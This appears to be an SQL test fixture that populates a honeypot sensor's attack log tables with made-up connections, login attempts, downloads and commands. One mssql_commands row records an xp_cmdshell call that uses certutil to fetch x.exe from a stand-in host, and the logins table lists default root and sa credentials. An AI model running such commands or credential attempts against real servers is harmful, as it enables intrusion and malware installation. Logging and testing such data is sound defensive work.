INSERT INTO connections VALUES (1, 'listen', 'tcp', 'httpd', 1777873740.0, 1, NULL, '0.0.0.0', 80, '', '', 0);
INSERT INTO connections VALUES (2, 'accept', 'tcp', 'smbd', 1777873745.586207, 2, NULL, '::ffff:172.20.0.3', 445, '::ffff:203.0.113.7', '', 41190);
INSERT INTO connections VALUES (3, 'accept', 'tcp', 'mysqld', 1777873746, 3, NULL, '172.20.0.3', 3306, '203.0.113.8', 'host.example', 5000);
INSERT INTO connections VALUES (4, 'reject', 'tcp', 'pcap', 1777873747.25, 4, NULL, '172.20.0.3', 23, '203.0.113.9', '', 5001);
INSERT INTO connections VALUES (5, 'accept', 'tcp', 'mssqld', 1777873748.125, 5, NULL, '172.20.0.3', 1433, '2001:db8::7', '', 5002);
-- The sensor fetches what the attacker of connection 2 sent it for.
INSERT INTO connections VALUES (6, 'connect', 'tcp', 'ftpctrl', 1777873749.5, 2, 2, '172.20.0.3', 40000, '192.0.2.66', '', 21);
INSERT INTO connections VALUES (7, 'accept', 'udp', 'SipSession', 1777873750.0000005, 7, NULL, '172.20.0.3', 5060, '198.51.100.9', '', 5060);
INSERT INTO connections VALUES (8, 'accept', 'tcp', 'httpd', NULL, 8, NULL, '172.20.0.3', 80, '198.51.100.10', '', 5003);
INSERT INTO logins VALUES (1, 3, 'root', ''), (2, 3, 'root', 'root'), (3, 5, 'sa', 'sa'), (4, 5, 'sa', 'sa'), (5, 5, 'sa', NULL), (6, 99, 'lost', 'lost');
INSERT INTO downloads VALUES (1, 2, 'smb://203.0.113.7', '0123456789abcdef0123456789abcdef'), (2, 6, 'ftp://u:p@192.0.2.66:21/a.exe', 'fedcba9876543210fedcba9876543210');
INSERT INTO offers VALUES (1, 2, 'smb://203.0.113.7'), (2, 2, 'http://192.0.2.66/b.exe');
INSERT INTO mssql_commands VALUES (1, 5, 'complete', 'exec master..xp_cmdshell ''certutil -urlcache -f http://192.0.2.66/x.exe x.exe'''), (2, 5, 'complete', 'SELECT 1'), (3, 5, 'complete', 'SELECT 1'), (4, 5, 'complete', '');
INSERT INTO mysql_command_ops VALUES (1, 3, 'COM_QUERY'), (2, 2, 'COM_INIT_DB');
INSERT INTO mysql_commands VALUES (1, 3, 3), (2, 3, 2), (3, 3, 99), (4, 3, 1);
INSERT INTO mysql_command_args VALUES (1, 1, 0, 'SELECT @@version'), (2, 2, 0, 'mysql'), (3, 3, 0, 'what'), (4, 77, 0, 'no command');
INSERT INTO sip_commands VALUES (1, 7, 'REGISTER', 'x', 'friendly-scanner', 0), (2, 7, NULL, 'x', 'y', 0);
INSERT INTO dcerpcrequests VALUES (1, 2, '4b324fc8-1670-01d3-1278-5a47bf6ee188', 31);
INSERT INTO p0fs VALUES (1, 2, 'Windows');
